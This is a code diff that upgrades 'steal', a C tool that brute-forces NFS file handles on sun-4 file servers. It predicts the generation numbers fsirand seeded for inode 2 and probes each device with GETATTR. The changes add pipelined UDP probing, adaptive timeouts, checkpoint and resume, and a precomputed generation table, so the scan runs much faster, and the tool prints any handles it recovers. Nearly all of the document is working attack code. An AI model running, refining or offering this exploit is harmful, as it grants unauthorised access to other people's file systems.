@@ -27,27 +27,36 @@
  */
 /*
  * steal - try to steal handles from a sun-4 NFS file server
+ *
+ * Every candidate handle is checked with a GETATTR. The probes are
+ * sent through an rpcpipe, which keeps a window of them in flight on
+ * one UDP socket and matches the replies by transaction id, so the
+ * scan runs at the rate the server answers instead of one round trip
+ * per guess. The per-probe timeout follows the measured round trip
+ * time, and the progress is checkpointed so an interrupted run can
+ * be resumed. The generation numbers for all pids are computed up
+ * front, and can be kept in a table file for the next run.
  */
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <ctype.h>
 #include <errno.h>
 #include <netdb.h>
+#include <signal.h>
+#include <unistd.h>
 #include <rpc/rpc.h>
 #include <sys/param.h>
 #include <sys/socket.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
 #include <sys/time.h>
-#include <sys/vnode.h>
-#include <sys/vfs.h>
-#ifdef SYSV
-#include <sys/inode.h>
-#else
-#include <ufs/inode.h>
-#endif
-#include "mount.h"
+#include <sys/stat.h>
+#include <sys/mman.h>
+#include <fcntl.h>
+#include <stddef.h>
 #include "nfs_prot.h"
+#include "rpcpipe.h"
 
 /*
  * This random seed is the constant value that the
@@ -55,6 +64,33 @@
  */
 #define	SUN4_RANDOM	(0 + 32)
 
+/*
+ * The sun-4 libc random() is the 4.3BSD additive feedback generator
+ * with a degree 31 trinomial (TYPE_3). srandom() fills the state with
+ * a linear congruential sequence and throws away the first 310 values.
+ */
+#define	SUN4_DEG	31	/* degree of the generator */
+#define	SUN4_SEP	3	/* separation between front and rear pointer */
+#define	SUN4_SKIP	(10 * SUN4_DEG) /* values discarded by srandom */
+#define	LANES		8	/* pids generated side by side */
+
+/*
+ * Table of generation numbers, indexed by pid. On disk it starts
+ * with this header, so one table serves every host with the same
+ * seed.
+ */
+#define	GEN_MAGIC	0x5347454e	/* "SGEN" */
+#define	GEN_SUN4	0		/* computed with the sun-4 generator */
+#define	GEN_LOCAL	1		/* ... with the local random() */
+
+struct gentable {
+    u_int32_t gt_magic;		/* GEN_MAGIC */
+    u_int32_t gt_seed;		/* dev_random it was computed for */
+    u_int32_t gt_kind;		/* GEN_SUN4 or GEN_LOCAL */
+    u_int32_t gt_count;		/* number of pids in the table */
+    u_int32_t gt_gen[1];	/* generation number of inode 2, per pid */
+};
+
 /*
  * Disk device descriptor (major/minor)
  */
@@ -75,7 +111,8 @@ struct device {
 };
 
 struct device device = {
-    { SUN4_RANDOM, 2000,
+    SUN4_RANDOM, 2000,
+    {
 	{ 10, 	/* /dev/xd[01][a-h] */
 	    { 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15 } },
 	{ 7, 	/* /dev/sd[01][a-h] */
@@ -94,46 +131,143 @@ struct device device = {
 #define MOUNT_TMP       6
 
 /*
- * This struct is only used to find the size of the data field in the
- * fhandle structure below.
+ * The sun-4 handle layout (big endian):
+ *
+ *	fsid_t  fh_fsid;		device number, file system type
+ *	u_short fh_len;			file number length
+ *	char    fh_data[10];		length, inode, generation number
+ *	u_short fh_xlen;		export file number length
+ *	char    fh_xdata[10];		and data
+ *
+ * nfs_prot.x only describes version 3, so the version 2 bits needed
+ * for GETATTR are spelled out here.
  */
-static struct fhsize {
-    fsid_t  f1;
-    u_short f2;
-    char    f3[4];
-    u_short f4;
-    char    f5[4];
+#define	NFS_VERSION	2
+#define	NFSPROC_GETATTR	1
+#define	NFS_FHSIZE	32
+#define	NFS_OK		0
+
+#define	FH_FSID		0	/* offsets in a sun-4 handle */
+#define	FH_LEN		8
+#define	FH_DATA		10
+#define	FH_XLEN		20
+#define	FH_XDATA	22
+
+#define	SUN_MAKEDEV(maj, min)	(((maj) << 8) | (min))
+
+#define	NPROBES		1024	/* default number of probes in flight */
+#define	MINPROBES	16	/* window never shrinks below this */
+#define	NRETRY		2	/* retransmissions of a probe by the pipe */
+#define	NREQUEUE	1	/* times a timed out probe is sent again */
+#define	RTO_INIT	1000	/* initial retransmission timeout (ms) */
+#define	RTO_MIN		20	/* ... lower bound */
+#define	RTO_MAX		5000	/* ... upper bound */
+#define	CHECKPOINT	10	/* seconds between checkpoints */
+
+/*
+ * A candidate handle on its way to the server
+ */
+struct probe {
+    struct rpccall pr_call;	/* the GETATTR in flight */
+    int pr_pid;			/* pid the generation number came from */
+    int pr_dsk;			/* index in dev_disks */
+    int pr_min;			/* index in dsk_min */
+    int pr_tries;		/* times it was sent again after timing out */
+    u_int pr_status;		/* NFS status of the reply */
+    char pr_handle[NFS_FHSIZE]; /* the handle itself */
+    struct probe *pr_next;	/* next free or requeued probe */
 };
-#define NFS_FHMAXDATA   ((NFS_FHSIZE - sizeof (struct fhsize) + 8) / 2)
-
-struct svcfh {
-    fsid_t  fh_fsid;                /* filesystem id */
-    u_short fh_len;                 /* file number length */
-    char    fh_data[NFS_FHMAXDATA]; /* and data */
-    u_short fh_xlen;                /* export file number length */
-    char    fh_xdata[NFS_FHMAXDATA]; /* and data */
+
+/*
+ * Where the generation of candidates is
+ */
+struct cursor {
+    int cu_pid;			/* current pid */
+    int cu_dsk;			/* current disk controller */
+    int cu_min;			/* current minor index */
 };
 
 struct timeval timeout = { 60, 0 };
 struct sockaddr_in server_addr;
 CLIENT *client;
+struct rpcpipe rp;			/* the probes in flight */
+
+int version = NFS_VERSION;	/* protocol version of the probes */
+int window;			/* probes currently allowed in flight */
+int maxwindow = NPROBES;	/* most probes in flight */
+struct probe *probes;		/* all probe slots */
+struct probe *freeprobes;	/* slots not in use */
+struct probe *requeue;		/* timed out probes to be sent again */
+struct cursor cursor;		/* next candidate */
+char *ckptfile;			/* checkpoint file, if any */
+int startpid;			/* first pid of this run */
+volatile sig_atomic_t stopped;	/* interrupted */
+int localrandom;		/* use the local random() instead */
+char *genfile;			/* generation table file, if any */
+u_int32_t *gens;		/* generation number per pid */
+
+void makehandle(char *, int, int, long, long, long, long);
+long generation(int);
+int loadgens(char *, int);
+void computegens(u_int32_t *, int);
+struct probe *nextprobe(void);
+int sendprobe(struct probe *);
+void gotreply(struct probe *, struct rpccall *);
+void settimeout(void);
+int lowwater(void);
+int readcheckpoint(char *);
+void writecheckpoint(char *, int);
+void printhandle(char *);
+AUTH *authunix_create_id(int, int);
+bool_t xdr_fhandle2(XDR *, char *);
+bool_t xdr_status(XDR *, u_int *);
+void interrupt(int);
 
-int handleok();
-long random();
-
-main(argc, argv)
-    int argc;
-    char **argv;
+int
+main(int argc, char **argv)
 {
-    register int pid;
+    struct rpccall *rc;
+    struct timeval now, last;
+    struct probe *pr;
     int sock = RPC_ANYSOCK;
+    int opt, i, nsent = 0, nlost = 0;
     char *host;
 
-    if (argc != 2) {
-	fprintf(stderr, "Usage: %s host\n", argv[0]);
+    while ((opt = getopt(argc, argv, "3Lc:t:w:p:")) != EOF) {
+	switch (opt) {
+	case '3':
+	    version = NFS_V3;
+	    break;
+	case 'L':
+	    localrandom = 1;
+	    break;
+	case 't':
+	    genfile = optarg;
+	    break;
+	case 'c':
+	    ckptfile = optarg;
+	    break;
+	case 'w':
+	    if ((maxwindow = atoi(optarg)) < 1)
+		maxwindow = 1;
+	    break;
+	case 'p':
+	    device.dev_pid = atoi(optarg);
+	    break;
+	default:
+	    fprintf(stderr,
+		"Usage: %s [-3L] [-c <checkpoint>] [-t <table>] [-w <probes>] [-p <maxpid>] host\n",
+		argv[0]);
+	    exit(1);
+	}
+    }
+    if (optind != argc - 1) {
+	fprintf(stderr,
+	    "Usage: %s [-3L] [-c <checkpoint>] [-t <table>] [-w <probes>] [-p <maxpid>] host\n",
+	    argv[0]);
 	exit(1);
     }
-    host = argv[1];
+    host = argv[optind];
 
     /* convert hostname to IP address */
     if (isdigit(*host)) {
@@ -150,14 +284,38 @@ main(argc, argv)
     server_addr.sin_family = AF_INET;
     server_addr.sin_port = 0;
 
+    /* pick up where a previous run left off */
+    if (ckptfile != NULL && !readcheckpoint(ckptfile))
+	exit(1);
+    if (!loadgens(genfile, device.dev_pid + 1))
+	exit(1);
+
     /* setup communication channel with NFS daemon */
     if ((client = clntudp_create(&server_addr,
-	NFS_PROGRAM, NFS_VERSION, timeout, &sock)) == NULL) {
+	NFS_PROGRAM, version, timeout, &sock)) == NULL) {
 	clnt_pcreateerror(host);
 	exit(1);
     }
-    clnt_control(client, CLSET_TIMEOUT, &timeout);
-    client->cl_auth = authunix_create_default(-2, -2);
+    clnt_control(client, CLSET_TIMEOUT, (char *)&timeout);
+    client->cl_auth = authunix_create_id(-2, -2);
+    if (!rpcpipe_open(&rp, client, NFS_PROGRAM, version, 1024)) {
+	clnt_perrno(rp.rp_stat);
+	exit(1);
+    }
+    rp.rp_retry.tv_sec = RTO_INIT / 1000;
+    rp.rp_retry.tv_usec = (RTO_INIT % 1000) * 1000;
+    settimeout();
+
+    if ((probes = (struct probe *) calloc(maxwindow, sizeof(struct probe))) == NULL) {
+	fprintf(stderr, "steal: out of memory\n");
+	exit(1);
+    }
+    for (i = 0; i < maxwindow; i++) {
+	probes[i].pr_call.rc_data = &probes[i];
+	probes[i].pr_next = freeprobes;
+	freeprobes = &probes[i];
+    }
+    window = maxwindow < MINPROBES ? maxwindow : MINPROBES;
 
     /*
      * For every likely process id, search through the list
@@ -165,74 +323,257 @@ main(argc, argv)
      * used in fsirand are often low (<1000), it makes more
      * sense to go through the devices first.
      */
-    for (pid = 0; pid <= device.dev_pid; pid++) {
-	register int n, dsk;
-	long gen;
-
-	/* initialize generation generator */
-	srandom(1);
-	srandom(pid + device.dev_random);
-	n = pid;
-	while (n--) (void) random();
-
-	if ((pid % 100) == 0) printf("\tpid = %d\n", pid);
-
-	/* compute generation # for inode 2 */
-	(void) random(); /* inode 0 */
-	(void) random(); /* inode 1 */
-	gen = random();
-
-	/*
-	 * Try every disk controler
-	 */
-	for (dsk = 0; dsk < DEV_NDISKS; dsk++) {
-	    register struct disk *dp = &device.dev_disks[dsk];
-	    register int min, maj = dp->dsk_maj;
-
-	    /*
-	     * Try every disk. A minor number of -1 indicates that
-	     * it has already been guessed.
-	     */
-	    for (min = 0; min < DSK_NMIN; min++) {
-		fhandle handle;
-
-		if(dp->dsk_min[min] == -1) continue;
-		makehandle(handle, maj, dp->dsk_min[min], 2, gen, 2, gen);
-		if (handleok(handle)) {
-		    dp->dsk_min[min] = -1;
-		    printhandle(handle);
-		    break;
-		}
+    cursor.cu_pid = startpid;
+    signal(SIGINT, interrupt);
+    gettimeofday(&last, NULL);
+    for (;;) {
+	while (!stopped && rp.rp_outstanding < window &&
+	  (pr = nextprobe()) != NULL) {
+	    if (!sendprobe(pr))
+		goto out;
+	    nsent++;
+	}
+	if (rp.rp_outstanding == 0)
+	    break;
+
+	if ((rc = rpcpipe_recv(&rp)) == NULL) {
+	    if (rp.rp_stat != RPC_TIMEDOUT) {
+		clnt_perrno(rp.rp_stat);
+		break;
+	    }
+
+	    /* back off: fewer probes in flight, send this one again */
+	    pr = (struct probe *) rp.rp_expired->rc_data;
+	    if ((window /= 2) < MINPROBES)
+		window = maxwindow < MINPROBES ? maxwindow : MINPROBES;
+	    if (pr->pr_tries++ < NREQUEUE) {
+		pr->pr_next = requeue;
+		requeue = pr;
+	    } else {
+		nlost++;
+		pr->pr_next = freeprobes;
+		freeprobes = pr;
+	    }
+	    continue;
+	}
+	pr = (struct probe *) rc->rc_data;
+	if (rc->rc_stat != RPC_SUCCESS && rc->rc_stat != RPC_CANTDECODERES) {
+	    clnt_perrno(rc->rc_stat);
+	    break;
+	}
+	gotreply(pr, rc);
+	pr->pr_next = freeprobes;
+	freeprobes = pr;
+	if (window < maxwindow)
+	    window++;
+
+	if (ckptfile != NULL) {
+	    gettimeofday(&now, NULL);
+	    if (now.tv_sec - last.tv_sec >= CHECKPOINT) {
+		writecheckpoint(ckptfile, lowwater());
+		last = now;
 	    }
 	}
     }
 
+out:
+    if (ckptfile != NULL)
+	writecheckpoint(ckptfile, lowwater());
+    printf("%d probes sent, %d unanswered%s\n", nsent, nlost,
+	stopped ? ", interrupted" : "");
+    for (i = 0; i < maxwindow; i++)
+	rpccall_free(&probes[i].pr_call);
+    free(probes);
+    rpcpipe_close(&rp);
     auth_destroy(client->cl_auth);
     clnt_destroy(client);
     exit(0);
 }
 
 /*
- * Create a handle
+ * Fill in a free probe slot with the next candidate handle: first
+ * the ones that timed out, then the next minor, disk and pid from
+ * the cursor. A minor number of -1 indicates that it has already
+ * been guessed.
+ */
+struct probe *
+nextprobe(void)
+{
+    register struct disk *dp;
+    struct probe *pr;
+
+    if (requeue != NULL) {
+	pr = requeue;
+	requeue = pr->pr_next;
+	if (device.dev_disks[pr->pr_dsk].dsk_min[pr->pr_min] != -1)
+	    return pr;
+	pr->pr_next = freeprobes;
+	freeprobes = pr;
+    }
+    if (freeprobes == NULL)
+	return NULL;
+
+    while (cursor.cu_pid <= device.dev_pid) {
+	if (cursor.cu_dsk == 0 && cursor.cu_min == 0 && (cursor.cu_pid % 100) == 0)
+	    printf("\tpid = %d\n", cursor.cu_pid);
+	dp = &device.dev_disks[cursor.cu_dsk];
+	if (cursor.cu_min < DSK_NMIN && dp->dsk_min[cursor.cu_min] != -1) {
+	    pr = freeprobes;
+	    freeprobes = pr->pr_next;
+	    pr->pr_pid = cursor.cu_pid;
+	    pr->pr_dsk = cursor.cu_dsk;
+	    pr->pr_min = cursor.cu_min;
+	    pr->pr_tries = 0;
+	    makehandle(pr->pr_handle, dp->dsk_maj, dp->dsk_min[cursor.cu_min],
+		2, gens[cursor.cu_pid], 2, gens[cursor.cu_pid]);
+	    cursor.cu_min++;
+	    return pr;
+	}
+	if (cursor.cu_min < DSK_NMIN) {
+	    cursor.cu_min++;
+	    continue;
+	}
+	cursor.cu_min = 0;
+	if (++cursor.cu_dsk < DEV_NDISKS)
+	    continue;
+	cursor.cu_dsk = 0;
+	cursor.cu_pid++;
+    }
+    return NULL;
+}
+
+/*
+ * Compute the generation number fsirand gave inode 2 when it
+ * ran as process 'pid', with the local random(). This costs O(pid)
+ * per pid, so it is only used when asked for.
  */
-makehandle(handle, maj, min, inum, gen, rinum, rgen)
-    struct svcfh *handle;
-    int maj, min;
-    long inum, gen;
-    long rinum, rgen;
+long
+generation(int pid)
 {
-    handle->fh_fsid.val[0] = makedev(maj, min);
-    handle->fh_fsid.val[1] = MOUNT_UFS;
-
-    handle->fh_len = 10;
-    *((u_short *)&handle->fh_data[0]) = 0;	/* length */
-    *((ino_t *)&handle->fh_data[2]) = inum;	/* inode */
-    *((long *)&handle->fh_data[6]) = gen;	/* generation number */
-
-    handle->fh_xlen = 10;
-    *((u_short *)&handle->fh_xdata[0]) = 0;	/* length */
-    *((ino_t *)&handle->fh_xdata[2]) = rinum;	/* inode */
-    *((long *)&handle->fh_xdata[6]) = rgen;	/* generation number */
+    register int n;
+
+    /* initialize generation generator */
+    srandom(1);
+    srandom(pid + device.dev_random);
+    n = pid;
+    while (n--) (void) random();
+
+    /* compute generation # for inode 2 */
+    (void) random(); /* inode 0 */
+    (void) random(); /* inode 1 */
+    return random();
+}
+
+/*
+ * Get the generation numbers for pids 0 .. count-1. With a table
+ * file, a table that was computed for the same seed and generator
+ * and covers enough pids is mapped and used as is; otherwise it is
+ * (re)computed into the file.
+ */
+int
+loadgens(char *file, int count)
+{
+    struct gentable *gt;
+    struct stat st;
+    size_t size;
+    int fd, kind = localrandom ? GEN_LOCAL : GEN_SUN4;
+
+    if (file == NULL) {
+	if ((gens = (u_int32_t *) malloc(count * sizeof(u_int32_t))) == NULL) {
+	    fprintf(stderr, "steal: out of memory\n");
+	    return 0;
+	}
+	computegens(gens, count);
+	return 1;
+    }
+
+    if ((fd = open(file, O_RDWR | O_CREAT, 0644)) < 0 || fstat(fd, &st) < 0) {
+	perror(file);
+	return 0;
+    }
+    size = offsetof(struct gentable, gt_gen) + count * sizeof(u_int32_t);
+    if (st.st_size >= size) {
+	gt = (struct gentable *)
+	    mmap(NULL, st.st_size, PROT_READ, MAP_SHARED, fd, 0);
+	if (gt != MAP_FAILED) {
+	    if (gt->gt_magic == GEN_MAGIC && gt->gt_kind == kind &&
+	      gt->gt_seed == (u_int32_t) device.dev_random &&
+	      gt->gt_count >= count &&
+	      st.st_size >= offsetof(struct gentable, gt_gen) +
+	      gt->gt_count * sizeof(u_int32_t)) {
+		close(fd);
+		gens = gt->gt_gen;
+		return 1;
+	    }
+	    munmap(gt, st.st_size);
+	}
+    }
+
+    if (ftruncate(fd, size) < 0) {
+	perror(file);
+	close(fd);
+	return 0;
+    }
+    gt = (struct gentable *)
+	mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    close(fd);
+    if (gt == MAP_FAILED) {
+	perror(file);
+	return 0;
+    }
+    gt->gt_magic = 0;
+    computegens(gt->gt_gen, count);
+    gt->gt_seed = device.dev_random;
+    gt->gt_kind = kind;
+    gt->gt_count = count;
+    gt->gt_magic = GEN_MAGIC;
+    (void) msync(gt, size, MS_SYNC);
+    gens = gt->gt_gen;
+    return 1;
+}
+
+/*
+ * Compute the generation numbers of inode 2 for pids 0 .. count-1 in
+ * one pass. The generators of LANES consecutive pids run side by
+ * side: their front and rear pointers move in lock step, so a step
+ * is one vector addition. Lane k of a block yields its number at
+ * step SUN4_SKIP + base + k + 2.
+ */
+void
+computegens(u_int32_t *gen, int count)
+{
+    u_int32_t state[SUN4_DEG][LANES];
+    int base, last, n, f, r, i, k;
+
+    if (localrandom) {
+	for (i = 0; i < count; i++)
+	    gen[i] = generation(i);
+	return;
+    }
+
+    for (base = 0; base < count; base += LANES) {
+	for (k = 0; k < LANES; k++)
+	    state[0][k] = device.dev_random + base + k;
+	for (i = 1; i < SUN4_DEG; i++)
+	    for (k = 0; k < LANES; k++)
+		state[i][k] = 1103515245 * state[i - 1][k] + 12345;
+
+	last = base + LANES < count ? base + LANES : count;
+	f = SUN4_SEP;
+	r = 0;
+	for (n = 0; n < SUN4_SKIP + last - 1 + 3; n++) {
+	    for (k = 0; k < LANES; k++)
+		state[f][k] += state[r][k];
+	    k = n - SUN4_SKIP - 2 - base;
+	    if (k >= 0)
+		gen[base + k] = (state[f][k] >> 1) & 0x7fffffff;
+	    if (++f >= SUN4_DEG) {
+		f = 0;
+		++r;
+	    } else if (++r >= SUN4_DEG)
+		r = 0;
+	}
+    }
 }
 
 /*
@@ -240,30 +581,202 @@ makehandle(handle, maj, min, inum, gen, rinum, rgen)
  * correctness of the handle.
  */
 int
-handleok(handle)
-    fhandle *handle;
+sendprobe(struct probe *pr)
 {
-    attrstat *res;
+    GETATTR3args args;
+    int ok;
+
+    if (version == NFS_V3) {
+	args.object.data.data_len = NFS_FHSIZE;
+	memcpy(args.object.data.data_val, pr->pr_handle, NFS_FHSIZE);
+	ok = rpcpipe_send(&rp, &pr->pr_call, NFS3_GETATTR,
+	    (xdrproc_t) xdr_GETATTR3args, (caddr_t) &args,
+	    (xdrproc_t) xdr_status, (caddr_t) &pr->pr_status);
+    } else
+	ok = rpcpipe_send(&rp, &pr->pr_call, NFSPROC_GETATTR,
+	    (xdrproc_t) xdr_fhandle2, (caddr_t) pr->pr_handle,
+	    (xdrproc_t) xdr_status, (caddr_t) &pr->pr_status);
+    if (!ok)
+	clnt_perrno(rp.rp_stat);
+    return ok;
+}
 
-    if ((res = nfsproc_getattr_2(handle, client)) == NULL)
-	return 0;
-    if (res->status != NFS_OK)
+/*
+ * Handle the server's verdict on a probe. The pipe has timed the
+ * reply, so the time a probe may take is brought up to date as well.
+ */
+void
+gotreply(struct probe *pr, struct rpccall *rc)
+{
+    register struct disk *dp = &device.dev_disks[pr->pr_dsk];
+
+    settimeout();
+
+    if (rc->rc_stat != RPC_SUCCESS || pr->pr_status != NFS_OK)
+	return;
+    if (dp->dsk_min[pr->pr_min] == -1)
+	return;			/* an earlier probe got there first */
+    dp->dsk_min[pr->pr_min] = -1;
+    printhandle(pr->pr_handle);
+    if (ckptfile != NULL)
+	writecheckpoint(ckptfile, lowwater());
+}
+
+/*
+ * Derive the time a probe may take from the pipe's retransmission
+ * timeout, which it doubles on every retransmission
+ */
+void
+settimeout(void)
+{
+    long rto;
+
+    rp.rp_minrto = RTO_MIN;
+    rp.rp_timeout.tv_sec = RTO_MAX / 1000;
+    rp.rp_timeout.tv_usec = (RTO_MAX % 1000) * 1000;
+    rto = rpcpipe_rto(&rp);
+    rto *= (1 << (NRETRY + 1)) - 1;
+    rp.rp_timeout.tv_sec = rto / 1000;
+    rp.rp_timeout.tv_usec = (rto % 1000) * 1000;
+}
+
+/*
+ * The lowest pid that still has probes to be answered. Everything
+ * below it is done.
+ */
+int
+lowwater(void)
+{
+    struct rpccall *rc;
+    struct probe *pr;
+    int low = cursor.cu_pid;
+
+    for (rc = rp.rp_calls; rc != NULL; rc = rc->rc_next) {
+	pr = (struct probe *) rc->rc_data;
+	if (pr->pr_pid < low) low = pr->pr_pid;
+    }
+    for (pr = requeue; pr != NULL; pr = pr->pr_next)
+	if (pr->pr_pid < low) low = pr->pr_pid;
+    return low;
+}
+
+/*
+ * Read a checkpoint: the first pid still to be scanned, and the
+ * minors that already gave up a handle. A missing file is a fresh
+ * start.
+ */
+int
+readcheckpoint(char *file)
+{
+    char line[BUFSIZ];
+    int pid, dsk, min;
+    FILE *fp;
+
+    if ((fp = fopen(file, "r")) == NULL) {
+	if (errno == ENOENT)
+	    return 1;
+	perror(file);
 	return 0;
+    }
+    while (fgets(line, sizeof(line), fp) != NULL) {
+	if (sscanf(line, "next %d", &pid) == 1)
+	    startpid = pid;
+	else if (sscanf(line, "found %d %d", &dsk, &min) == 2) {
+	    if (dsk >= 0 && dsk < DEV_NDISKS && min >= 0 && min < DSK_NMIN)
+		device.dev_disks[dsk].dsk_min[min] = -1;
+	}
+    }
+    fclose(fp);
+    printf("Resuming at pid %d\n", startpid);
     return 1;
 }
 
-printhandle(handle)
-    struct svcfh *handle;
+/*
+ * Write a checkpoint. It goes to a temporary file first, so an
+ * interrupted write never destroys the previous one.
+ */
+void
+writecheckpoint(char *file, int next)
+{
+    char tmp[MAXPATHLEN];
+    int dsk, min;
+    FILE *fp;
+
+    snprintf(tmp, sizeof(tmp), "%s.tmp", file);
+    if ((fp = fopen(tmp, "w")) == NULL) {
+	perror(tmp);
+	return;
+    }
+    fprintf(fp, "next %d\n", next);
+    for (dsk = 0; dsk < DEV_NDISKS; dsk++)
+	for (min = 0; min < DSK_NMIN; min++)
+	    if (device.dev_disks[dsk].dsk_min[min] == -1)
+		fprintf(fp, "found %d %d\n", dsk, min);
+    if (fclose(fp) != 0 || rename(tmp, file) < 0)
+	perror(file);
+}
+
+/*
+ * Store big endian values in a handle
+ */
+static void
+put16(char *p, u_int v)
+{
+    p[0] = v >> 8; p[1] = v;
+}
+
+static void
+put32(char *p, u_long v)
+{
+    p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = v;
+}
+
+static u_int
+get16(char *p)
+{
+    return ((u_char) p[0] << 8) | (u_char) p[1];
+}
+
+static u_long
+get32(char *p)
+{
+    return ((u_long)(u_char) p[0] << 24) | ((u_char) p[1] << 16) |
+	((u_char) p[2] << 8) | (u_char) p[3];
+}
+
+/*
+ * Create a handle
+ */
+void
+makehandle(char *handle, int maj, int min, long inum, long gen,
+    long rinum, long rgen)
+{
+    memset(handle, 0, NFS_FHSIZE);
+    put32(handle + FH_FSID, SUN_MAKEDEV(maj, min));
+    put32(handle + FH_FSID + 4, MOUNT_UFS);
+
+    put16(handle + FH_LEN, 10);
+    put16(handle + FH_DATA, 0);			/* length */
+    put32(handle + FH_DATA + 2, inum);		/* inode */
+    put32(handle + FH_DATA + 6, gen);		/* generation number */
+
+    put16(handle + FH_XLEN, 10);
+    put16(handle + FH_XDATA, 0);		/* length */
+    put32(handle + FH_XDATA + 2, rinum);	/* inode */
+    put32(handle + FH_XDATA + 6, rgen);		/* generation number */
+}
+
+void
+printhandle(char *handle)
 {
-    register char *p;
     register int i;
+    u_long dev = get32(handle + FH_FSID);
 
     /* fsid[0] -> major, minor device number */
-    fprintf(stderr, "\t(%d,%d) ",
-	major(handle->fh_fsid.val[0]), minor(handle->fh_fsid.val[0]));
+    fprintf(stderr, "\t(%ld,%ld) ", (dev >> 8) & 0xFF, dev & 0xFF);
 
     /* fsid[1] -> file system type */
-    switch (handle->fh_fsid.val[1]) {
+    switch (get32(handle + FH_FSID + 4)) {
     case MOUNT_UFS: fprintf(stderr, "ufs "); break;
     case MOUNT_NFS: fprintf(stderr, "nfs "); break;
     case MOUNT_PC:  fprintf(stderr, "pcfs "); break;
@@ -274,21 +787,17 @@ printhandle(handle)
     }
 
     /* file number length, and data */
-    fprintf(stderr, "<%d,%ld,%ld> ",
-	*((u_short *)&handle->fh_data[0]),
-	*((ino_t *)&handle->fh_data[2]),
-	*((long *)&handle->fh_data[6]));
+    fprintf(stderr, "<%d,%ld,%ld> ", get16(handle + FH_DATA),
+	get32(handle + FH_DATA + 2), get32(handle + FH_DATA + 6));
 
     /* export file number length, and data */
-    fprintf(stderr, "<%d,%ld,%ld>\n",
-	*((u_short *)&handle->fh_xdata[0]),
-	*((ino_t *)&handle->fh_xdata[2]),
-	*((long *)&handle->fh_xdata[6]));
+    fprintf(stderr, "<%d,%ld,%ld>\n", get16(handle + FH_XDATA),
+	get32(handle + FH_XDATA + 2), get32(handle + FH_XDATA + 6));
 
     /* print handle in hex-decimal format (as input for nfs) */
     fprintf(stderr, "handle:");
-    for (i = 0, p = (char *)handle; i < sizeof(struct svcfh); i++, p++)
-	fprintf(stderr, " %02x", *p & 0xFF);
+    for (i = 0; i < NFS_FHSIZE; i++)
+	fprintf(stderr, " %02x", handle[i] & 0xFF);
     fprintf(stderr, "\n");
 }
 
@@ -297,17 +806,45 @@ printhandle(handle)
  * doing lots of syscalls.
  */
 AUTH *
-authunix_create_default(uid, gid)
-    int uid, gid;
+authunix_create_id(int uid, int gid)
 {
     char machname[MAX_MACHINE_NAME + 1];
-    int gids[1];
+    gid_t gids[1];
 
     if (gethostname(machname, MAX_MACHINE_NAME) == -1) {
-	fprintf(stderr, "authunix_create_default: cannot get hostname\n");
+	fprintf(stderr, "authunix_create_id: cannot get hostname\n");
 	exit(1);
     }
     machname[MAX_MACHINE_NAME] = 0;
     gids[0] = gid;
     return (authunix_create(machname, uid, gid, 1, gids));
 }
+
+/*
+ * NFS version 2 handles are fixed size opaque data
+ */
+bool_t
+xdr_fhandle2(XDR *xdrs, char *fh)
+{
+    return xdr_opaque(xdrs, fh, NFS_FHSIZE);
+}
+
+/*
+ * Both GETATTR results start with the status, which is all
+ * a probe needs to know
+ */
+bool_t
+xdr_status(XDR *xdrs, u_int *status)
+{
+    return xdr_u_int(xdrs, status);
+}
+
+/*
+ * Stop sending new probes, and let the ones in flight come back
+ * so the checkpoint is accurate
+ */
+void
+interrupt(int sig)
+{
+    stopped = 1;
+}